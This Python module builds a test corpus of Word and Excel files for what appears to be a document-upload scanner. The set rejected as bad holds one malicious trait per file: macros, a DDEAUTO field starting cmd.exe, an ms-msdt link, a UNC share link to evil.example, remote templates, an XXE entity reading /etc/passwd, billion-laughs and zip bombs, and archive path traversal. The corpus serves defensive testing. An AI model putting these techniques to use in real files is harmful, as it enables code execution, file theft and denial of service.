"""Workbooks and documents for the corpus: archives of XML parts, each with one thing in it that should not be."""

import io
import zipfile

import openpyxl

from .pdfs import a_zip

SHEET = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
TEXT = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
Parts = dict[str, str | bytes]


def types(part: str, kind: str, more: str = "") -> str:
    return (
        f'<?xml version="1.0"?><Types xmlns="{PACKAGE}/content-types"><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="/{part}" ContentType="{kind}"/>{more}</Types>'
    )


def relation(kind: str, target: str, *, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{PACKAGE}/relationships">'
        f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'
    )


def body(inside: str = "") -> str:
    return f'<?xml version="1.0"?><w:document xmlns:w="{WORD}"><w:body>{inside}</w:body></w:document>'


def docx(more: Parts | None = None, *, kind: str = TEXT, declared: str = "") -> bytes:
    parts: Parts = {
        "[Content_Types].xml": types("word/document.xml", kind, declared),
        "_rels/.rels": relation("officeDocument", "word/document.xml"),
        "word/document.xml": body("<w:p><w:r><w:t>Hello</w:t></w:r></w:p>"),
        **(more or {}),
    }
    return archive(parts)


def xlsx(more: Parts | None = None) -> bytes:
    parts: Parts = {
        "[Content_Types].xml": types("xl/workbook.xml", SHEET),
        "_rels/.rels": relation("officeDocument", "xl/workbook.xml"),
        "xl/workbook.xml": '<?xml version="1.0"?><workbook/>',
        **(more or {}),
    }
    return archive(parts)


def archive(parts: Parts) -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return whole.getvalue()


def from_openpyxl() -> bytes:
    whole, book = io.BytesIO(), openpyxl.Workbook()
    book.active.append(["year", "built"])
    book.active["A2"].hyperlink = "https://example.org/"
    book.save(whole)
    return whole.getvalue()


def outside(kind: str, target: str) -> bytes:
    return docx({"word/_rels/document.xml.rels": relation(kind, target, outside=True)})


def inside(kind: str, target: str, content: str | bytes) -> bytes:
    return docx({"word/_rels/document.xml.rels": relation(kind, target), f"word/{target}": content})


def field(*words: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in words)
    return docx({"word/document.xml": body(f"<w:p>{runs}</w:p>")})


def twice() -> bytes:
    """Two parts of one name, in different case: readers disagree on which counts."""
    return docx({"word/Document.xml": body()})


def encrypted_flag() -> bytes:
    whole = bytearray(xlsx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + offset] |= 1
            at = whole.find(mark, at + 4)
    return bytes(whole)


def lying_bomb() -> bytes:
    """The directory says ten bytes; what comes out is a hundred megabytes."""
    whole = bytearray(xlsx({"xl/sheet1.xml": b" " * 100_000_000}))
    at = whole.rfind(b"PK\x01\x02")
    whole[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(whole)


LAUGHS = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY a{n} "{f"&a{n - 1 or str()};" * 10}">' for n in range(1, 10)
)
LAUGHS = LAUGHS.replace("&a0;", "&a;") + "]><a>&a9;</a>"
OUTSIDE_ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PRINTER = {"xl/printerSettings/printerSettings1.bin": b"printer"}

GOOD = {
    "table.xlsx": from_openpyxl(),
    "smallest.xlsx": xlsx(),
    "with folders of their own.docx": docx({"word/": "", "word/media/": ""}),
    "with the settings of a printer.xlsx": xlsx(PRINTER),
    "text.docx": docx(),
    "with a link.docx": outside("hyperlink", "https://example.org/"),
    "with a link to a neighbour.docx": outside("hyperlink", "annex.docx"),
    "with a picture.docx": docx({"word/media/image1.png": b"\x89PNG\r\n\x1a\n"}),
    "with a table of contents.docx": field(" TOC ", "\\o"),
    "with a link in a field.docx": field(' HYPERLINK "https://example.org/link/import" '),
}

BAD = {
    "macro.docx": inside("vbaProject", "vbaProject.bin", OLE),
    "macro under another name.docx": inside("vbaProject", "media/image1.png", b"x"),
    "declared with macros.docx": docx(kind=MACROS),
    "declares macros.docx": docx(
        declared='<Default Extension="png" ContentType="application/vnd.ms-office.vbaProject"/>'
    ),
    "macro.xlsx": xlsx({"xl/vbaProject.bin": OLE}),
    "old macro sheet.xlsx": xlsx({"xl/macrosheets/sheet1.xml": "<a/>"}),
    "control.docx": inside("control", "activeX/activeX1.xml", "<a/>"),
    "embedded.docx": inside("oleObject", "embeddings/oleObject1.bin", OLE),
    "embedded without a word.docx": docx({"word/embeddings/a.bin": b"x"}),
    "embedded under another name.docx": inside("image", "media/image1.png", OLE),
    "workbook in it.docx": inside("package", "embeddings/book.xlsx", xlsx()),
    "page in it.docx": inside("aFChunk", "chunk.xml", "<html/>"),
    "page file in it.docx": inside("image", "chunk.html", "<html/>"),
    "template from elsewhere.docx": outside("attachedTemplate", "https://example.org/evil.dotm"),
    "picture from elsewhere.docx": outside("image", "https://example.org/seen.png"),
    "object from elsewhere.docx": outside("oleObject", "https://example.org/a"),
    "frame from elsewhere.docx": outside("frame", "https://example.org/a"),
    "link that runs.docx": outside("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    "link to a share.docx": outside("hyperlink", "\\\\evil.example\\share"),
    "field that starts a program.docx": field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
    "field in pieces.docx": field("DDE", "AUTO cmd.exe"),
    "field that fetches.docx": field(' INCLUDEPICTURE "https://example.org/seen.png" '),
    "simple field.docx": docx({"word/document.xml": body('<w:fldSimple w:instr="DDE cmd x"/>')}),
    "drawing with script.docx": docx({"word/media/image1.svg": "<svg><script>alert(1)</script></svg>"}),
    "external link.xlsx": xlsx({"xl/externalLinks/externalLink1.xml": "<a/>"}),
    "external link by relation.xlsx": xlsx({"xl/_rels/workbook.xml.rels": relation("externalLink", "a.xml")}),
    "connection.xlsx": xlsx({"xl/connections.xml": "<connections/>"}),
    "web extension.xlsx": xlsx({"xl/webextensions/taskpanes.xml": "<a/>"}),
    "flat bomb.xlsx": lambda: xlsx({"xl/worksheets/sheet1.xml": b"<a>" + b" " * 100_000_000 + b"</a>"}),
    "lying bomb.xlsx": lying_bomb,
    "nested bomb.xlsx": lambda: xlsx({"xl/media/image1.png": a_zip(content=b"\0" * 50_000_000)}),
    "many parts.xlsx": lambda: xlsx({f"xl/worksheets/sheet{n}.xml": "<a/>" for n in range(2_000)}),
    "laughs.xlsx": xlsx({"xl/sharedStrings.xml": LAUGHS}),
    "laughs.docx": docx({"word/document.xml": LAUGHS}),
    "entity from outside.docx": docx({"word/document.xml": OUTSIDE_ENTITY}),
    "nested tags.xlsx": xlsx({"xl/worksheets/sheet1.xml": "<a>" * 1_000 + "</a>" * 1_000}),
    "endless tag.xlsx": xlsx({"xl/worksheets/sheet1.xml": '<a b="' + "0123456789abcdef" * 200_000 + '"/>'}),
    "torn.xlsx": xlsx({"xl/worksheets/sheet1.xml": "<a>"}),
    "program before it.docx": b"MZ" + docx(),
    "archive before it.docx": a_zip() + docx(),
    "program after it.docx": docx() + b"MZ",
    "cut off.docx": docx()[:-40],
    "password.xlsx": encrypted_flag(),
    "two of one name.docx": twice(),
    "climbing.docx": docx({"../../etc/cron.xml": "<a/>"}),
    "workbook.docx": xlsx(),
    "document.xlsx": docx(),
    "some archive.docx": a_zip(),
    "no declaration.docx": archive({"word/document.xml": body()}),
    "two beginnings.docx": docx(
        {
            "_rels/.rels": relation("officeDocument", "word/document.xml")
            .replace("<Relationship I", "<x/><Relationship I")
            .replace(
                "</Relationships>",
                f'<Relationship Id="r2" Type="{OFFICE}/officeDocument" Target="b.xml"/></Relationships>',
            )
        }
    ),
}
